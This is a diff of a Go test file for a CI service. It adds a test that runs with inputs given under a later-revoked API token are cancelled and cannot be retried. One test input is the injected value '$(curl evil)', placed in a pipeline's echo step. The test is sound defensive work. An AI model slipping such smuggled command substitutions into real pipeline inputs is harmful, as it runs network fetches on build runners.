@@ -60,11 +60,56 @@ func TestRevokedTokensSnapshotStops(t *testing.T) {
 			t.Fatalf("the revoked token's run handed out job %s with secrets %v", name, c.Secrets)
 		}
 	}
-	if st, why := states(t, f.s, run.ID)["b"], reasons(t, f.s, run.ID)["b"]; st != domain.JobCanceled || !strings.Contains(why, "since revoked") {
+	if st, why := states(t, f.s, run.ID)["b"], reasons(t, f.s, run.ID)["b"]; st != domain.JobCanceled || !strings.Contains(why, "was revoked") {
 		t.Fatalf("the revoked token's job b: %s (%s)", st, why)
 	}
 	if _, err := f.s.Retry(ctx, live, run.ID, ""); domain.ErrorCode(err) != domain.EForbidden ||
 		!strings.Contains(err.Error(), "submitted with an API token since revoked") {
 		t.Fatalf("a retry of the revoked token's snapshot: %v, want forbidden", err)
+	}
+}
+
+// TestRevokedTokensInputsStop: a manual run's inputs reach its scripts as
+// its snapshot does. Given with a token since revoked, the run's later
+// trusted job is not handed out, though it names no secrets (it would
+// still run trusted: the runner's own credentials, the trusted caches),
+// and a retry does not give the inputs again.
+func TestRevokedTokensInputsStop(t *testing.T) {
+	ctx := context.Background()
+	f := newDeployFixture(t)
+	p, err := f.s.GetProject(ctx, f.root, "p")
+	must(t, err)
+	u, _, err := f.s.CreateUser(ctx, "mallory", "user")
+	must(t, err)
+	_, err = f.s.SetMember(ctx, f.root, p.ID, u.ID, store.RoleWrite, true)
+	must(t, err)
+	tokens := map[string]store.User{}
+	for _, name := range []string{"leaked", "live"} {
+		_, token, err := f.s.CreateUserToken(ctx, u.ID, name)
+		must(t, err)
+		tokens[name], err = f.s.AuthenticateUser(ctx, token)
+		must(t, err)
+	}
+	leaked, live := tokens["leaked"], tokens["live"]
+	pl, err := pipeline.Parse("f.yml", []byte("jobs:\n  a: {steps: [{run: make}]}\n  b: {needs: a, steps: [{run: 'echo ${{ inputs.x }}'}]}\n"))
+	must(t, err)
+	run, err := f.s.CreateRun(ctx, store.NewRun{Project: "p", GitRef: "refs/heads/main", By: &leaked, SourceBy: "user:" + u.ID,
+		SourceToken: live.TokenID, Jobs: pl.Jobs, Inputs: map[string]any{"x": "$(curl evil)"}})
+	must(t, err)
+	c := claimJob(t, f.s, f.r, run.ID, "a")
+	_, err = f.s.RevokeUserTokenAs(ctx, u, u.ID, leaked.TokenID)
+	must(t, err)
+	complete(t, f.s, f.r, c, domain.OutcomePassed)
+	for name, c := range claimAll(t, f.s, f.r) {
+		if c.Lease.RunID == run.ID {
+			t.Fatalf("the revoked token's inputs' run handed out job %s", name)
+		}
+	}
+	if st, why := states(t, f.s, run.ID)["b"], reasons(t, f.s, run.ID)["b"]; st != domain.JobCanceled || !strings.Contains(why, "was revoked") {
+		t.Fatalf("job b of the revoked token's inputs: %s (%s)", st, why)
+	}
+	if _, err := f.s.Retry(ctx, live, run.ID, ""); domain.ErrorCode(err) != domain.EForbidden ||
+		!strings.Contains(err.Error(), "its inputs were given with an API token since revoked") {
+		t.Fatalf("a retry of the revoked token's inputs: %v, want forbidden", err)
 	}
 }
